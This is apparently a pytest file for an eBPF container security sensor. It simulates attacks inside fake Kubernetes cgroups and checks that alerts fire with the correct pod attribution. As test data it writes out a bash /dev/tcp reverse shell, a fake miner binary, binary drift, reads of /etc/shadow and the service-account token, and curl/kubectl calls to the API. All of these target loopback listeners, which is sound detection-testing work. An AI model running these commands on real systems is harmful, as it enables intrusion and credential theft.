"""The node sensor with real eBPF on this machine: attack simulations run in a subprocess inside a
container-like cgroup (kubepods/pod<uid>/cri-containerd-<id>.scope) and must raise their alerts, attributed
to that container; a benign workload (a pip install, a web server under load) in another must raise none.
Skipped, with the reason, where eBPF is unavailable."""

from __future__ import annotations

import contextlib
import copy
import gzip
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import swap_values
from hypothesis import given, settings
from hypothesis import strategies as hst

from stockade.sensor.adapters import convert
from stockade.sensor.detect import Detector
from stockade.sensor.events import Decoder, parse_cgroup_path
from stockade.sensor.rules import load

CLI = [sys.executable, "-m", "stockade.cli.main"]
CGROUP2 = (
    Path("/sys/fs/cgroup/unified") if Path("/sys/fs/cgroup/unified/cgroup.procs").exists() else Path("/sys/fs/cgroup")
)


def _ebpf_reason() -> str:
    if os.geteuid() != 0:
        return "not root"
    if shutil.which("bpftrace") is None:
        return "bpftrace is not installed"
    if not (CGROUP2 / "cgroup.procs").exists():
        return "no cgroup v2 hierarchy"
    return ""


API_HOST, API_PORT = "127.0.0.77", 6443  # the "API server" the live sensor is told about (--api-server)
live = pytest.mark.skipif(bool(_ebpf_reason()), reason=f"eBPF unavailable here: {_ebpf_reason()}")


class FakeContainer:
    """A cgroup named the way containerd names a Kubernetes container's, to run processes 'inside' it."""

    def __init__(self) -> None:
        self.pod_uid = str(uuid.uuid4())
        self.id = secrets.token_hex(32)
        self.path = CGROUP2 / "kubepods" / f"pod{self.pod_uid}" / f"cri-containerd-{self.id}.scope"
        self.path.mkdir(parents=True)

    def enter(self) -> Callable[[], None]:
        procs = str(self.path / "cgroup.procs")

        def move() -> None:
            with open(procs, "w") as fh:
                fh.write(str(os.getpid()))

        return move

    def remove(self) -> None:
        for p in (self.path, self.path.parent):
            with contextlib.suppress(OSError):
                p.rmdir()


def start_sensor(tmp_path: Path, *extra: str, env: dict[str, str] | None = None) -> Callable[[], list[dict[str, Any]]]:
    """`stockade sensor run` in the background; the returned function stops it and gives its alerts."""
    alerts, stats = tmp_path / "alerts.jsonl", tmp_path / "stats.json"
    cmd = [*CLI, "sensor", "run", "-o", str(alerts), "--stats", str(stats), "--duration", "120",
           "--api-server", f"{API_HOST}:{API_PORT}", *extra]  # fmt: skip
    proc = subprocess.Popen(cmd, stderr=subprocess.PIPE, text=True, env={**os.environ, **(env or {})})
    assert proc.stderr is not None
    lines = []
    while True:  # "pod lookup: ..." lines come first
        line = proc.stderr.readline()
        lines.append(line)
        if "sensor ready" in line or not line or not line.startswith("pod lookup"):
            break
    if "sensor ready" not in line:
        proc.kill()
        pytest.fail(f"sensor did not start: {''.join(lines)}{proc.stderr.read()}")

    def finish() -> list[dict[str, Any]]:
        time.sleep(1.5)  # let the last events through
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        counters = json.loads(stats.read_text())
        assert counters["dropped"] == 0 and counters["events"] > 0
        return [json.loads(x) for x in alerts.read_text().splitlines()] if alerts.exists() else []

    finish.proc = proc  # type: ignore[attr-defined]
    return finish


@pytest.fixture
def sensor(tmp_path: Path) -> Iterator[Callable[[], list[dict[str, Any]]]]:
    finish = start_sensor(tmp_path)
    yield finish
    if finish.proc.poll() is None:  # type: ignore[attr-defined]
        finish.proc.kill()  # type: ignore[attr-defined]


def _listener(port_holder: list[int], payload: bytes) -> threading.Thread:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.settimeout(20)
    port_holder.append(srv.getsockname()[1])

    def serve() -> None:
        try:
            conn, _ = srv.accept()
            conn.sendall(payload)
            time.sleep(0.5)
            conn.close()
        except OSError:
            pass
        finally:
            srv.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return t


@live
def test_attacks_raise_alerts_attributed_to_their_container(sensor: Callable[[], list[dict[str, Any]]],
                                                              tmp_path: Path) -> None:  # fmt: skip
    box = FakeContainer()
    try:
        run = lambda *a, **k: subprocess.run(*a, preexec_fn=box.enter(), timeout=30, **k)  # noqa: E731
        # 1. a reverse shell to a loopback listener, which sends it "exit"
        port: list[int] = []
        t = _listener(port, b"id\nexit\n")
        run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port[0]} 0>&1"], capture_output=True)
        t.join(5)
        # 2. a binary named like a miner connecting to a loopback "pool" on a stratum port
        pool = socket.socket()
        try:
            pool.bind(("127.0.0.1", 3333))
            pool.listen(1)
        except OSError:
            pool.close()
            pool = None  # the port is taken: the connection attempt still happens
        miner = tmp_path / "xmrig"
        miner.write_text("#!/usr/bin/env python3\nimport socket\ns = socket.socket(); s.settimeout(2)\n"
                         "s.connect_ex(('127.0.0.1', 3333))\n")  # fmt: skip
        miner.chmod(0o755)
        run([str(miner)], capture_output=True)
        if pool is not None:
            pool.close()
        # 3. binary drift: a new executable written, then run
        payload = tmp_path / "payload"
        run(["sh", "-c", f"cat /bin/true > {payload} && chmod +x {payload} && {payload}"], capture_output=True)
        # 4. credential access
        run(["cat", "/etc/shadow"], capture_output=True)
        alerts = sensor()
    finally:
        box.remove()
    mine = [a for a in alerts if (a["evidence"][0].get("container") or {}).get("id") == box.id]
    got = {a["rule"] for a in mine}
    assert {"STK-RT-001", "STK-RT-002", "STK-RT-005", "STK-RT-006", "STK-RT-007", "STK-RT-009"} <= got, alerts
    c = mine[0]["evidence"][0]["container"]
    assert c["pod_uid"] == box.pod_uid and c["id"] == box.id
    assert all(a["techniques"] and a["remediation"] for a in mine)


@live
def test_api_server_access_from_a_pod(sensor: Callable[[], list[dict[str, Any]]]) -> None:
    """The steps after a pod compromise: read the service account token, call the API with curl and kubectl."""
    token = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
    made = [p for p in (token.parent, token.parent.parent, token.parent.parent.parent) if not p.exists()]
    box = FakeContainer()
    api = socket.socket()
    try:
        token.parent.mkdir(parents=True, exist_ok=True)
        if not token.exists():
            token.write_text("eyJhbGciOiJSUzI1NiJ9.test.test")
            made.insert(0, token)
        api.bind((API_HOST, API_PORT))
        api.listen(8)  # accepts the TCP handshakes; curl and kubectl then time out on TLS, as against a wrong CA
        run = lambda *a, **k: subprocess.run(*a, preexec_fn=box.enter(), timeout=30, capture_output=True, **k)  # noqa: E731
        run(["sh", "-c", f"cat {token} > /dev/null"])
        run(["curl", "-sk", "--max-time", "2", f"https://{API_HOST}:{API_PORT}/api/v1/namespaces/default/secrets"])
        kubectl = shutil.which("kubectl")  # on these machines; not a Debian package, so not installed by .ci/setup
        if kubectl:
            run([kubectl, f"--server=https://{API_HOST}:{API_PORT}", "--insecure-skip-tls-verify", "--token=x",
                 "--request-timeout=2s", "get", "pods"])  # fmt: skip
        # a client library (an operator's Python) reaching the API is normal: no STK-RT-020 for it
        run([sys.executable, "-c", f"import socket; socket.create_connection(('{API_HOST}', {API_PORT}), 2).close()"])
        alerts = sensor()
    finally:
        api.close()
        box.remove()
        for p in made:
            with contextlib.suppress(OSError):
                p.unlink() if p.is_file() else p.rmdir()
    mine = {(a["rule"], a["evidence"][0]["proc"]["comm"]) for a in alerts
            if (a["evidence"][0].get("container") or {}).get("id") == box.id}  # fmt: skip
    assert {("STK-RT-022", "cat"), ("STK-RT-021", "curl"), ("STK-RT-020", "curl")} <= mine, alerts
    if kubectl:
        assert {("STK-RT-020", "kubectl"), ("STK-RT-015", "kubectl")} <= mine, alerts
    assert not any(comm.startswith("python") for _rule, comm in mine), mine
    # the same rules never fire for host processes
    host = [a for a in alerts if a["rule"] in ("STK-RT-020", "STK-RT-021", "STK-RT-022")
            and (a["evidence"][0].get("container") or {}).get("id") != box.id]  # fmt: skip
    assert host == []


@live
def test_benign_workload_raises_nothing(sensor: Callable[[], list[dict[str, Any]]], tmp_path: Path) -> None:
    box = FakeContainer()
    try:
        # a pip install (a local wheel: no network, no build) ...
        wheel = tmp_path / "hello_stockade-1.0-py3-none-any.whl"
        with zipfile.ZipFile(wheel, "w") as zf:
            files = {
                "hello_stockade/__init__.py": "X = 1\n",
                "hello_stockade-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello-stockade\nVersion: 1.0\n",
                "hello_stockade-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                "Tag: py3-none-any\n",
            }
            record = "".join(f"{name},,\n" for name in files) + "hello_stockade-1.0.dist-info/RECORD,,\n"
            for name, text in {**files, "hello_stockade-1.0.dist-info/RECORD": record}.items():
                zf.writestr(name, text)
        target = tmp_path / "site"
        subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-index", "--no-deps", "--target", str(target),  # noqa: E501
                        str(wheel)], preexec_fn=box.enter(), check=True, timeout=120, capture_output=True)  # fmt: skip
        # ... and a web server under load
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        web = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                                "--directory", str(tmp_path)], preexec_fn=box.enter(),
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        try:
            for _ in range(100):
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2).read()
                    break
                except OSError:
                    time.sleep(0.05)
            for _ in range(300):
                urllib.request.urlopen(f"http://127.0.0.1:{port}/{wheel.name}", timeout=2).read()
        finally:
            web.terminate()
            web.wait(10)
        alerts = sensor()
    finally:
        box.remove()
    mine = [a for a in alerts if (a["evidence"][0].get("container") or {}).get("id") == box.id]
    assert mine == []
    assert (target / "hello_stockade" / "__init__.py").exists()


def test_cgroup_paths_name_containers_and_pods() -> None:
    cid = "a" * 64
    cases = {
        f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1b2c3d4e_1111_2222_3333_444455556666.slice/cri-containerd-{cid}.scope": (  # noqa: E501
            "1b2c3d4e-1111-2222-3333-444455556666",
            cid,
        ),
        f"/kubepods/besteffort/pod1b2c3d4e-1111-2222-3333-444455556666/{cid}": (
            "1b2c3d4e-1111-2222-3333-444455556666",
            cid,
        ),
        f"/system.slice/docker-{cid}.scope": (None, cid),
        "/user.slice/user-0.slice/session-1.scope": (None, None),
    }
    for path, (pod, ctr) in cases.items():
        got = parse_cgroup_path(path)
        assert got.get("pod_uid") == pod and got.get("id") == ctr, path


def test_decoder_pairs_exec_and_tracks_drift() -> None:
    d = Decoder()
    common = "\t100\t4242\t4242\t1\t0\t1\tsh\tbash\t"
    assert d.decode("EXEC" + common + "/usr/bin/nope\tnope") is None
    assert d.decode("EXECRET" + common + "-2") is None  # failed exec (PATH search): no event
    assert d.decode("OPEN" + common + "/tmp/dropper\t577")["fd"]["write"] is True
    assert d.decode("EXEC" + common + "/tmp/dropper\tdropper\x1f-x") is None
    ev = d.decode("EXECRET" + common + "0")
    assert ev["proc"]["exe"] == "/tmp/dropper" and ev["proc"]["args"] == "-x" and ev["proc"]["exe_written"] is True
    assert d.decode("garbage") is None and d.malformed == 1
    assert d.decode("Lost 17 events") is None and d.lost == 17 and d.malformed == 1


def test_falco_and_tetragon_events_through_the_rules() -> None:
    falco = {"output": "...", "rule": "Terminal shell in container", "output_fields": {
        "evt.type": "execve", "proc.name": "xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o pool.x:3333",  # noqa: E501
        "proc.pid": 10, "proc.ppid": 1, "user.uid": 0, "container.id": "abc123", "k8s.pod.name": "web-1",
        "k8s.ns.name": "shop"}}  # fmt: skip
    tetragon = {"process_exec": {"process": {"binary": "/usr/bin/nsenter", "arguments": "-t 1 -m -u -i -n sh",
                                             "pid": 20, "pod": {"name": "debug", "namespace": "default",
                                                                "container": {"id": "def456"}}},
                                 "parent": {"binary": "/bin/bash", "pid": 19}}}  # fmt: skip
    d = Detector(load())
    for doc in (falco, tetragon):
        ev = convert(doc)
        assert ev is not None
        d.process(ev)
    assert {(a.rule, a.name) for a in d.alerts} == {("STK-RT-005", "web-1"), ("STK-RT-012", "debug")}


_FALCO = {"output": "...", "rule": "Write below etc", "output_fields": {
    "evt.type": "openat", "proc.exepath": "/bin/bash", "proc.cmdline": "bash -i", "proc.pid": 10, "proc.ppid": 1,
    "user.uid": 0, "container.id": "abc", "k8s.pod.name": "web", "k8s.ns.name": "default",
    "container.image.repository": "nginx", "fd.name": "/etc/shadow", "evt.arg.flags": "O_RDWR", "fd.sip": "1.2.3.4",
    "fd.sport": 4444, "proc.pname": "sh", "proc.pexepath": "/bin/sh", "evt.rawtime": 123}}  # fmt: skip
_TETRAGON = {"process_exec": {"process": {"binary": "/usr/bin/nsenter", "arguments": "-t 1 -m sh", "pid": 5, "uid": 0,
                                          "pod": {"name": "p", "namespace": "n",
                                                  "container": {"id": "c", "image": {"name": "img"}}}},
                              "parent": {"binary": "/bin/sh", "pid": 1}}}  # fmt: skip
_ODD = [None, 1, 0, 1.5, True, "", "abc", [], {}, [1], {"a": 1}, "connect", "execve", 10**30, float("nan")]


@settings(max_examples=400, deadline=None)
@given(hst.data())
def test_other_sensors_events_of_any_shape_never_stop_the_engine(data: hst.DataObject) -> None:
    """Found by fuzzing: a Falco or Tetragon event with a number, list or map where a string or number belongs
    (container.id, proc.pid "abc", process.pod a list) stopped `stockade sensor ingest`. Now it is converted with
    what can be read, or skipped."""
    doc = copy.deepcopy(data.draw(hst.sampled_from([_FALCO, _TETRAGON])))
    swap_values(doc, data, _ODD)
    ev = convert(doc)
    if ev is not None:
        assert all(isinstance(v, str) for v in ev["container"].values())
        for a in Detector(load()).process(ev):
            assert a.to_dict()["rule"] == a.rule


def test_manifests_split_collector_and_publisher() -> None:
    import yaml

    cmd = [*CLI, "sensor", "manifests", "--namespace", "sec"]
    out = subprocess.run(cmd, capture_output=True, text=True, check=True)
    ds = next(d for d in yaml.safe_load_all(out.stdout) if d["kind"] == "DaemonSet")
    ctrs = {c["name"]: c for c in ds["spec"]["template"]["spec"]["containers"]}
    col, pub = ctrs["collector"], ctrs["publisher"]
    assert col["securityContext"]["privileged"] is False
    assert {"BPF", "PERFMON"} <= set(col["securityContext"]["capabilities"]["add"])
    assert col["resources"]["limits"]["cpu"] and col["resources"]["limits"]["memory"] == "512Mi"
    assert float(col["args"][col["args"].index("--memory-limit") + 1]) < 512  # sheds before the kernel kills it
    assert pub["securityContext"]["runAsNonRoot"] is True and pub["securityContext"]["capabilities"]["drop"] == ["ALL"]
    assert "tail" in " ".join(pub["command"])  # no server: alerts go to the publisher's log
    out = subprocess.run([*cmd, "--server", "https://stockade.example", "--cluster", "prod"], capture_output=True,
                         text=True, check=True)  # fmt: skip
    ds = next(d for d in yaml.safe_load_all(out.stdout) if d["kind"] == "DaemonSet")
    pub = next(c for c in ds["spec"]["template"]["spec"]["containers"] if c["name"] == "publisher")
    env = {e["name"]: e for e in pub["env"]}
    assert pub["args"][0] == "publish" and env["STOCKADE_SERVER"]["value"] == "https://stockade.example"
    assert env["STOCKADE_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": "stockade-cluster", "key": "token"}
    assert {v["name"] for v in ds["spec"]["template"]["spec"]["volumes"]} >= {"alerts", "publisher-state"}
    assert ds["metadata"]["namespace"] == "sec"
    # the CRI sockets, read-only, where `--cri-socket auto` looks for them (under /host)
    from stockade.sensor.cri import DEFAULT_SOCKETS

    mounts = {m["mountPath"]: m for m in col["volumeMounts"]}
    assert all(mounts[f"/host{d}"]["readOnly"] for d in ("/run/containerd", "/run/crio"))
    assert "/run/containerd/containerd.sock" in DEFAULT_SOCKETS and "/run/crio/crio.sock" in DEFAULT_SOCKETS


def test_clear_error_without_ebpf(tmp_path: Path) -> None:
    env = {**os.environ, "PATH": str(tmp_path)}  # no bpftrace on PATH
    out = subprocess.run([*CLI, "sensor", "run", "--duration", "1"], capture_output=True, text=True, env=env)
    assert out.returncode == 1 and "eBPF is not available" in out.stderr and "Traceback" not in out.stderr


def test_api_server_endpoints_from_options_and_pod_env() -> None:
    from stockade.sensor.events import api_server_endpoints

    got = api_server_endpoints(["127.0.0.1:6443", "[::1]:443"], env={"KUBERNETES_SERVICE_HOST": "10.96.0.1",
                                                                    "KUBERNETES_SERVICE_PORT": "443"})  # fmt: skip
    assert got == {("127.0.0.1", 6443), ("::1", 443), ("10.96.0.1", 443)}
    assert api_server_endpoints([], env={}) == set()
    for bad in ("10.0.0.1", "10.0.0.1:http", "10.0.0.1:70000", ":443"):
        with pytest.raises(ValueError, match="expected HOST:PORT"):
            api_server_endpoints([bad], env={})
    d = Decoder(api_servers=got)
    ev = d.decode("CONNECT\t1\t10\t10\t1\t0\t1\tcurl\tsh\t4\t10.96.0.1\t443")
    assert ev is not None and ev["net"]["k8s_api"] is True
    ev = d.decode("CONNECT\t1\t10\t10\t1\t0\t1\tcurl\tsh\t4\t10.96.0.1\t80")
    assert ev is not None and ev["net"]["k8s_api"] is False


def _containerd_reason() -> str:
    missing = [t for t in ("containerd", "ctr", "runc", "skopeo", "umoci") if shutil.which(t) is None]
    return _ebpf_reason() or (f"{', '.join(missing)} not installed" if missing else "")


@pytest.fixture(scope="module")
def containerd(fixtures_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A real containerd (Debian's) with its CRI plugin on a private socket, state and root, with alpine 3.11
    imported and a pause image made from it (sleep), so that pods run without a registry."""
    from stockade.sensor.cri import CriClient

    work = tmp_path_factory.mktemp("containerd")
    sock = work / "containerd.sock"
    config = subprocess.run(["containerd", "config", "default"], capture_output=True, text=True, check=True).stdout
    config = (config.replace('root = "/var/lib/containerd"', f'root = "{work}/root"')
              .replace('state = "/run/containerd"', f'state = "{work}/state"')
              .replace('address = "/run/containerd/containerd.sock"', f'address = "{sock}"')
              .replace('sandbox_image = "registry.k8s.io/pause:3.6"', 'sandbox_image = "stockade.test/pause:1"')
              # this VM refuses negative oom_score_adj (the pause container's -998): keep containerd's own
              .replace("restrict_oom_score_adj = false", "restrict_oom_score_adj = true"))  # fmt: skip
    (work / "config.toml").write_text(config)
    log = (work / "containerd.log").open("w")
    daemon = subprocess.Popen(["containerd", "--config", str(work / "config.toml")], stdout=log, stderr=log)
    client = None
    try:
        for _ in range(100):
            if sock.is_socket():
                break
            time.sleep(0.1)
        alpine = work / "alpine.tar"
        with gzip.open(fixtures_dir / "images" / "trivy-alpine-311.tar.gz") as src, alpine.open("wb") as dst:
            shutil.copyfileobj(src, dst)
        steps = [
            ["skopeo", "copy", "-q", f"docker-archive:{alpine}", f"oci:{work}/layout:alpine"],
            ["umoci", "config", "--image", f"{work}/layout:alpine", "--tag", "pause", "--config.entrypoint", "sleep",
             "--config.cmd", "100000"],
            ["skopeo", "copy", "-q", f"oci:{work}/layout:pause",
             f"docker-archive:{work}/pause.tar:stockade.test/pause:1"],
            ["ctr", "-a", str(sock), "-n", "k8s.io", "images", "import", str(alpine)],
            ["ctr", "-a", str(sock), "-n", "k8s.io", "images", "import", str(work / "pause.tar")],
        ]  # fmt: skip
        for step in steps:
            subprocess.run(step, check=True, capture_output=True, timeout=120)
        client = CriClient(str(sock))
        yield client
    finally:
        if client is not None:
            client.close()
        daemon.terminate()
        daemon.wait(20)
        log.close()


@pytest.mark.skipif(bool(_containerd_reason()), reason=f"needs eBPF and containerd: {_containerd_reason()}")
def test_pods_named_by_the_container_runtime(containerd: Any, tmp_path: Path) -> None:
    """A real pod started through containerd's CRI (as the kubelet does) reads /etc/shadow; the alert names
    the pod, its namespace, uid, container and image, which the sensor asked of the runtime."""
    uid = str(uuid.uuid4())
    finish = start_sensor(tmp_path, "--cri-socket", containerd.path)
    sandbox = ""
    try:
        sandbox, config = containerd.run_pod("web-1", "shop", uid, f"/kubepods/besteffort/pod{uid}")
        cid = containerd.start_container(sandbox, config, "app", "docker.io/library/alpine:3.11",
                                         ["sh", "-c", "sleep 1; cat /etc/shadow > /dev/null; sleep 1"])  # fmt: skip
        time.sleep(3)
        alerts = finish()
    finally:
        if sandbox:
            containerd.remove_pod(sandbox)
        if finish.proc.poll() is None:  # type: ignore[attr-defined]
            finish.proc.kill()  # type: ignore[attr-defined]
    shadow = [a for a in alerts if a["rule"] == "STK-RT-009" and a["evidence"][0]["container"].get("id") == cid]
    assert shadow, [(a["rule"], a["evidence"][0]["proc"]["comm"], a["evidence"][0].get("container")) for a in alerts]
    c = shadow[0]["evidence"][0]["container"]
    assert (c["pod"], c["namespace"], c["pod_uid"], c["name"], c["image"]) == (
        "web-1", "shop", uid, "app", "docker.io/library/alpine:3.11")  # fmt: skip
    assert (shadow[0]["namespace"], shadow[0]["name"]) == ("shop", "web-1")
    # starting the pod itself (runc's init mounting the container's filesystems, the pause process) is quiet
    pod_rules = {a["rule"] for a in alerts if a["evidence"][0]["container"].get("pod_uid") == uid}
    assert pod_rules == {"STK-RT-009"}, pod_rules


def _raw_events(path: Path, n: int) -> None:
    """n bpftrace-format lines: writes below /etc by a non-system program, each to a new file (each a new
    alert: the worst case for the sensor's memory)."""
    with path.open("w") as fh:
        fh.write("READY\n")
        for i in range(n):
            fh.write(f"OPEN\t{i}\t4242\t4242\t1\t0\t1\tdropper\tbash\t/etc/cron.d/job-{i:07d}-{'x' * 40}\t577\n")


def test_sensor_memory_stays_bounded_under_an_alert_flood(tmp_path: Path) -> None:
    from stockade.sensor.collector import Sensor, rss_mb

    raw = tmp_path / "raw.log"
    n = 120_000
    _raw_events(raw, n)
    published = [0]
    det = Detector(load(), keep_alerts=False)  # as `stockade sensor run` makes it
    base = rss_mb([os.getpid()])
    # each alert holds its event: kept, 120,000 would take several hundred MiB more than this
    limit = base + 120
    s = Sensor(det, Decoder(), lambda a: published.__setitem__(0, published[0] + len(a)), memory_mb=limit,
               command=["cat", str(raw)], queue_size=n + 8, cpu_share=8.0)  # no drops, no pauses  # fmt: skip
    s.start()
    assert s.done.wait(120)
    counters = s.stop()
    assert counters["events"] == n and counters["dropped"] == 0 and counters["memory_sheds"] == 0, counters
    assert published[0] == n  # every write was its own alert, and each was published
    assert 0 < counters["peak_rss_mb"] < limit
    assert len(det.bursts.open) <= det.bursts.max_open and det.alerts == []


def test_sensor_over_its_memory_limit_sheds_then_stops_with_an_error(tmp_path: Path) -> None:
    from stockade.sensor.collector import Sensor

    feeder = tmp_path / "feed.py"  # an endless, slow event source
    feeder.write_text("import time\nprint('READY', flush=True)\ni = 0\nwhile True:\n    i += 1\n"
                      "    print('\\t'.join(['OPEN', str(i), '7', '7', '1', '0', '1', 'x', 'sh', f'/tmp/f{i}', '577']),"
                      " flush=True)\n    time.sleep(0.001)\n")  # fmt: skip
    s = Sensor(Detector(load(), keep_alerts=False), Decoder(), lambda a: None, memory_mb=1.0,
               command=[sys.executable, str(feeder)])  # fmt: skip
    s.start()
    assert s.done.wait(30), "the sensor did not stop"
    counters = s.stop()
    assert counters["memory_sheds"] == Sensor.SHED_LIMIT
    assert "memory limit exceeded" in counters["error"] and "limit 1 MiB" in counters["error"]
    assert s.proc is not None and s.proc.poll() is not None  # the event source was stopped


@live
def test_sensor_sends_its_alerts_to_the_server(tmp_path: Path) -> None:
    """`stockade sensor run --server`: a burst of three /etc/shadow reads in a container is one alert with
    count 3 on a real stockade server, under the cluster whose token the sensor presented."""
    import httpx
    from server_util import database, make_store, serving

    with database("sqlite", tmp_path) as url:
        store = make_store(url)
        with serving(store) as base:
            store.create_user("ops", "correct horse battery", "contributor")
            user_token = store.create_user_token("ops", "tests", "tests")
            with httpx.Client(base_url=base, headers={"authorization": f"Bearer {user_token}"}) as c:
                r = c.post("/api/v1/clusters", json={"name": "prod"})
                assert r.status_code == 201, r.text
                cluster_token = r.json()["token"]
                box = FakeContainer()
                finish = start_sensor(tmp_path, "--server", base, "--cluster", "prod",
                                      env={"STOCKADE_TOKEN": cluster_token})  # fmt: skip
                try:
                    for _ in range(3):
                        subprocess.run(["cat", "/etc/shadow"], preexec_fn=box.enter(), capture_output=True, timeout=30)
                        time.sleep(0.3)  # a busy CI machine lost one of three back-to-back reads in bpftrace's output
                    deadline = time.monotonic() + 30  # a loaded machine delays the event pipe: wait for the server
                    while time.monotonic() < deadline:
                        got = c.get("/api/v1/alerts", params={"cluster": "prod", "limit": 1000}).json()["items"]
                        if any(a["rule"] == "STK-RT-009" and box.id in a["dedup_key"] and a["count"] >= 3 for a in got):
                            break
                        time.sleep(0.5)
                    finish()
                finally:
                    box.remove()
                    if finish.proc.poll() is None:  # type: ignore[attr-defined]
                        finish.proc.kill()  # type: ignore[attr-defined]
                items = c.get("/api/v1/alerts", params={"cluster": "prod", "limit": 1000}).json()["items"]
        store.engine.dispose()
    shadow = [a for a in items if a["rule"] == "STK-RT-009" and box.id in a["dedup_key"]]
    assert len(shadow) == 1 and shadow[0]["count"] == 3, items
